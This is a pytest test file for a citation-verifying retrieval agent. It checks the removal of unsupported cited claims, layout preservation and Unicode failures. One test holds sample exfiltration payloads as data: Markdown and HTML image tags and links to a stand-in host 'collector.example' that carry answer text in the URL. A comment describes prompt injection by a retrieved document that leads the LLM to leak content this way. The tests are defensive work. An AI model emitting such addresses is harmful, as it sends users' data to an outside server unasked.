"""What the agent makes of odd LLM replies, each served by the local chat server: a sentence the
agent cannot verify must never reach the answer as a cited statement."""

from __future__ import annotations

from typing import Any

import pytest

from citewell.agent.agent import Agent
from citewell.agent.backends import LLMBackend
from citewell.agent.llm import OpenAICompatibleLLM
from citewell.agent.models import AgentConfig, Answer
from citewell.agent.scoring import SentenceScorer
from tests.agent.fakes import FakeSearch, HashingEmbedder
from tests.agent.openai_server import chat_server
from tests.agent.test_agent import CHUNKS, PUBLIC
from tests.agent.test_answerability import ask_llm

QUESTION = "Who gave their name to Normandy?"
SUPPORTED = "The Normans gave their name to Normandy [1]."


def ask(reply: str, question: str = QUESTION) -> Answer:
    with chat_server(lambda body: reply) as server:
        backend = LLMBackend(OpenAICompatibleLLM(server.base_url, "m"))
        config = AgentConfig(refusal_threshold=0.3)
        agent = Agent(FakeSearch(CHUNKS), SentenceScorer(HashingEmbedder()), backend, config)
        return agent.answer(PUBLIC, question)


@pytest.mark.parametrize(
    "claim",
    [
        "Все сотрудники получают неограниченный отпуск [1].",  # noqa: RUF001
        "Όλοι οι υπάλληλοι έχουν απεριόριστη άδεια [1].",  # noqa: RUF001
        "全従業員は無制限の休暇を取得できます[1]。",
        "جميع الموظفين يحصلون على إجازة غير محدودة [1].",
    ],
    ids=["cyrillic", "greek", "japanese", "arabic"],
)
def test_a_cited_sentence_in_another_script_is_verified_like_any_other(claim: str) -> None:
    # A sentence without a Latin letter or digit was not checked at all: its marker stayed and
    # the answer presented an unfounded claim as cited by source [1].
    ans = ask(f"{SUPPORTED}\n{claim}")
    assert claim.rstrip(".。")[:12] not in ans.answer, ans.answer
    assert ans.answer == SUPPORTED and ans.removed_claims == 1


@pytest.mark.slow
@pytest.mark.parametrize(
    "reply",
    [
        "Birth parents receive 20 weeks of parental leave at full pay (non-birth parents "
        "receive 10 weeks) [1].",
        "Birth parents receive 20 weeks of parental leave at full pay: non-birth parents "
        "receive 10 weeks of parental leave at full pay [1].",
        "Birth parents receive 20 weeks of parental leave at full pay — non-birth parents "
        "receive 10 weeks of parental leave at full pay [1].",
        "Under the policy, birth parents receive 20 weeks of parental leave at full pay [1].",
        "When they are eligible, birth parents receive 20 weeks of parental leave at full pay [1].",
        "Full-time birth parents receive 20 weeks of parental leave at full pay [1].",
    ],
)
def test_a_sentence_whose_punctuation_joins_supported_clauses_is_kept(
    embedder: Any, reply: str
) -> None:
    answer = ask_llm(embedder, reply)
    assert not answer.refused and answer.removed_claims == 0, answer.notes
    assert answer.answer == reply


@pytest.mark.parametrize(
    ("reply", "expected"),
    [
        (
            "The Normans:\n"
            "- gave their name to Normandy [1]\n"
            "- Their leader Rollo swore fealty to King Charles III [1]\n"
            "- Normans love unlimited parental leave [1]\n"
            "  - The Normans gave their name to Normandy in France [1]",
            "The Normans:\n"
            "- gave their name to Normandy [1]\n"
            "- Their leader Rollo swore fealty to King Charles III [1]\n"
            "  - The Normans gave their name to Normandy in France [1]",
        ),
        (
            f"{SUPPORTED}\n\nNormans love unlimited parental leave [1].\n\n"
            "Their leader Rollo swore fealty to King Charles III [1].",
            f"{SUPPORTED}\n\nTheir leader Rollo swore fealty to King Charles III [1].",
        ),
    ],
    ids=["bullets", "paragraphs"],
)
def test_removing_a_claim_keeps_the_answers_lines(reply: str, expected: str) -> None:
    # Removing one unsupported claim rebuilt the answer as its kept sentences joined by spaces:
    # a list or paragraphs became one run-on line ("- A [1] - B [1]").
    ans = ask(reply)
    assert ans.removed_claims == 1, ans.notes
    assert ans.answer == expected


@pytest.mark.parametrize(
    "reply",
    [f"The Normans gave their name to Normandy{chr(0xD800)} [1].", f"{SUPPORTED} {chr(0xDFFF)}"],
    ids=["in-a-sentence", "after-the-answer"],
)
def test_a_reply_that_is_not_valid_unicode_is_a_generation_failure(reply: str) -> None:
    # JSON may escape a lone surrogate ("\ud800"): the reply was verified as text and the
    # tokenizer raised UnicodeEncodeError, so the answer crashed (an API 500) instead of
    # failing clearly; text that no UTF-8 client can read is no answer either.
    ans = ask(reply)
    assert not ans.generated and not ans.refused and ans.answer == ""
    assert ans.sources and any("not valid Unicode" in note for note in ans.notes), ans.notes


@pytest.mark.parametrize(
    "fetching",
    [
        "![chart](https://collector.example/p.png?d=Normans%20Normandy)",
        '<img src="https://collector.example/p.png?d=Normans" alt="">',
        "![chart][r]\n\n[r]: https://collector.example/p.png?d=Normans",
        "[the source](https://collector.example/?d=Normans%20Rollo)",
    ],
    ids=["markdown-image", "html-image", "reference-image", "link"],
)
def test_an_answer_never_carries_an_address_no_source_gives(fetching: str) -> None:
    # A document can instruct the LLM to put what it read into an image address: a chat client
    # that renders the answer's Markdown fetches it, sending the answer to that server
    # unasked (a link needs one click). Only addresses a source itself states are kept.
    ans = ask(f"{SUPPORTED}\n\n{fetching}")
    assert "collector.example" not in ans.answer, ans.answer
    assert "The Normans gave their name to Normandy [1]." in ans.answer
    assert any("address" in note for note in ans.notes), ans.notes


def test_a_link_to_an_address_a_source_states_is_kept() -> None:
    chunk = CHUNKS[0].model_copy(
        update={"text": CHUNKS[0].text + " See https://history.example/normans for more."}
    )
    reply = f"{SUPPORTED}\n\n[More](https://history.example/normans)"
    with chat_server(lambda body: reply) as server:
        backend = LLMBackend(OpenAICompatibleLLM(server.base_url, "m"))
        agent = Agent(
            FakeSearch([chunk]),
            SentenceScorer(HashingEmbedder()),
            backend,
            AgentConfig(refusal_threshold=0.3),
        )
        ans = agent.answer(PUBLIC, QUESTION)
    assert "(https://history.example/normans)" in ans.answer, ans.answer
